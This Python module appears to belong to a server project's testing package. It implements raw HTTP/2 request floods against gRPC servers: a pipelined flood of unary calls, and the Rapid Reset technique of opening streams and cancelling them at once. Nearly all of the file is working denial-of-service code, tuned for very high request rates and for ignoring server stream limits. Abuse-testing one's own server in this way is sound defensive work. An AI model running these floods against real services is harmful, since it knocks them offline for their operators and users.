"""Request floods over raw HTTP/2: pipelined unary calls and Rapid Reset.

Frames are pre-encoded and written in bulk on plain sockets, so one Python
process can push tens of thousands of requests per second: far more than any
well-behaved gRPC client would, which is the point. Needs ``h2``/``hpack``
(development dependencies of eventwire, not runtime ones).
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from dataclasses import dataclass
from typing import Final

import hpack

from eventwire.testing._abuse_h2 import RawH2, grpc_headers

HEALTH_CHECK: Final = "/grpc.health.v1.Health/Check"
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _DATA, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0x1, 0x0, 0x3, 0x4, 0x6, 0x7, 0x8
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1
_MAX_STREAM_ID: Final = 2**31 - 1
_MAX_CONCURRENT_STREAMS: Final = 0x3


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _header_block(method: str) -> bytes:
    # Never-indexed literals: every request is the same bytes, whatever the
    # server's HPACK table holds.
    return bytes(
        hpack.Encoder().encode(
            [hpack.NeverIndexedHeaderTuple(k, v) for k, v in grpc_headers(method)],
            huffman=False,
        )
    )


@dataclass
class FloodResult:
    """What one flood did: requests written, calls the server finished, how it ended."""

    sent: int = 0
    finished: int = 0
    answered: int = 0
    """Calls answered with a message (the others ended with an error status)."""
    refused: int = 0
    """Streams the server reset (RST_STREAM) rather than answered."""
    seconds: float = 0.0
    goaways: int = 0
    closed: int = 0

    @property
    def rate(self) -> float:
        return self.finished / self.seconds if self.seconds else 0.0


class _Pipelined:
    """One connection keeping ``depth`` unary calls in flight, answered or not."""

    def __init__(self, address: str, request: bytes, depth: int, *, polite: bool) -> None:
        self.polite = polite
        host, _, port = address.rpartition(":")
        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.template = request
        self.depth = depth
        self.in_flight = 0
        self.open: set[int] = set()
        self.next_id = 1
        self.buffer = b""
        self.unacked_data = 0
        self.goaway = False
        self.closed = False
        self.pending = (
            _PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_WINDOW, 0, 0, struct.pack(">I", 2**30))
        )

    def _obey(self, settings: bytes) -> None:
        # An attacker loses nothing by staying under the advertised stream limit:
        # streams beyond it are refused without reaching the server's queue.
        if not self.polite:
            return
        for at in range(0, len(settings) - 5, 6):
            if int.from_bytes(settings[at : at + 2], "big") == _MAX_CONCURRENT_STREAMS:
                self.depth = min(self.depth, int.from_bytes(settings[at + 2 : at + 6], "big"))

    def write(self) -> None:
        if not self.pending or self.closed:
            return
        try:
            sent = self.sock.send(self.pending)
        except BlockingIOError:
            return
        except OSError:
            self.closed = True
            return
        self.pending = self.pending[sent:]

    def read(self, result: FloodResult) -> None:
        try:
            data = self.sock.recv(1 << 18)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        buf = self.buffer + data
        at = 0
        replies = []
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at : at + 3], "big")
            if len(buf) - at < 9 + length:
                break
            kind, flags = buf[at + 3], buf[at + 4]
            stream = int.from_bytes(buf[at + 5 : at + 9], "big") & _MAX_STREAM_ID
            if ((kind == _HEADERS and flags & _END_STREAM) or kind == _RST) and stream in self.open:
                # Trailers are often followed by an RST_STREAM for the same stream.
                self.open.discard(stream)
                self.in_flight -= 1
                result.finished += kind == _HEADERS
                result.refused += kind == _RST
            elif kind == _DATA:
                self.unacked_data += length
                result.answered += 1
            elif kind == _SETTINGS and not flags & _ACK:
                replies.append(_frame(_SETTINGS, _ACK, 0))
                self._obey(buf[at + 9 : at + 9 + length])
            elif kind == _PING and not flags & _ACK:
                replies.append(_frame(_PING, _ACK, 0, buf[at + 9 : at + 17]))
            elif kind == _GOAWAY:
                self.goaway = True
            at += 9 + length
        self.buffer = buf[at:]
        if self.unacked_data > 1 << 20:
            replies.append(_frame(_WINDOW, 0, 0, struct.pack(">I", self.unacked_data)))
            self.unacked_data = 0
        if replies:
            self.pending = b"".join(replies) + self.pending


def pipelined_flood(
    address: str,
    seconds: float,
    *,
    connections: int = 20,
    depth: int = 1000,
    method: str = HEALTH_CHECK,
    message: bytes = b"",
    polite: bool = True,
) -> FloodResult:
    """Unary calls to ``method`` on ``connections`` connections for ``seconds``, each
    keeping ``depth`` calls in flight (a new one as soon as one is answered).

    ``message`` is the serialized request (empty: a default ``HealthCheckRequest``).
    ``polite`` keeps under the server's advertised ``MAX_CONCURRENT_STREAMS``
    (as any HTTP/2 library does); impolite, streams beyond it are refused.
    """
    block = _header_block(method)
    body = b"\x00" + struct.pack(">I", len(message)) + message
    request = _frame(_HEADERS, _END_HEADERS, 1, block) + _frame(_DATA, _END_STREAM, 1, body)
    # Each frame's stream id sits at bytes 5-9 of its 9-byte header.
    split = 9 + len(block)

    result = FloodResult()
    selector = selectors.DefaultSelector()
    conns = []
    for _ in range(connections):
        conn = _Pipelined(address, request, depth, polite=polite)
        conns.append(conn)
        selector.register(conn.sock, selectors.EVENT_READ, conn)
    began = time.monotonic()
    try:
        while time.monotonic() - began < seconds:
            for conn in conns:
                _top_up(conn, result, split)
            for key, _ in selector.select(0.01):
                key.data.read(result)
            if all(c.closed or c.goaway for c in conns):
                break
    finally:
        result.seconds = time.monotonic() - began
        result.goaways = sum(c.goaway for c in conns)
        result.closed = sum(c.closed for c in conns)
        for conn in conns:
            with contextlib.suppress(OSError):
                conn.sock.close()
        selector.close()
    return result


def _top_up(conn: _Pipelined, result: FloodResult, split: int) -> None:
    if conn.goaway or conn.closed:
        return
    frames = []
    head, tail = conn.template[:split], conn.template[split:]
    while conn.in_flight < conn.depth and conn.next_id < _MAX_STREAM_ID:
        sid = struct.pack(">I", conn.next_id)
        frames.append(head[:5] + sid + head[9:] + tail[:5] + sid + tail[9:])
        conn.open.add(conn.next_id)
        conn.next_id += 2
        conn.in_flight += 1
    result.sent += len(frames)
    if frames:
        conn.pending += b"".join(frames)
    conn.write()


def rapid_reset(address: str, streams: int, *, method: str, chunk: int = 5000) -> tuple[int, str]:
    """Open and at once reset up to ``streams`` streams on one connection, as fast as
    the socket takes them: pre-encoded HEADERS + RST_STREAM frames, written in bulk.

    Returns how many went out and how the connection ended: ``"goaway"``,
    ``"closed"`` (the server hung up) or ``"open"``.
    """
    block = _header_block(method)
    cancel = struct.pack(">I", 0x8)
    with RawH2(address) as conn:
        stream_id = conn.conn.get_next_available_stream_id()
        sent = 0
        while sent < streams:
            frames = []
            for _ in range(min(chunk, streams - sent)):
                frames.append(
                    _frame(_HEADERS, _END_HEADERS, stream_id, block)
                    + _frame(_RST, 0, stream_id, cancel)
                )
                stream_id += 2
            try:
                conn.sock.sendall(b"".join(frames))
            except OSError:
                conn.seen.closed = True
                break
            sent += len(frames)
            conn.poll(0)
            if conn.seen.goaway is not None or conn.seen.closed:
                break
        conn.poll(0.2)
        outcome = "goaway" if conn.seen.goaway else "closed" if conn.seen.closed else "open"
        return sent, outcome
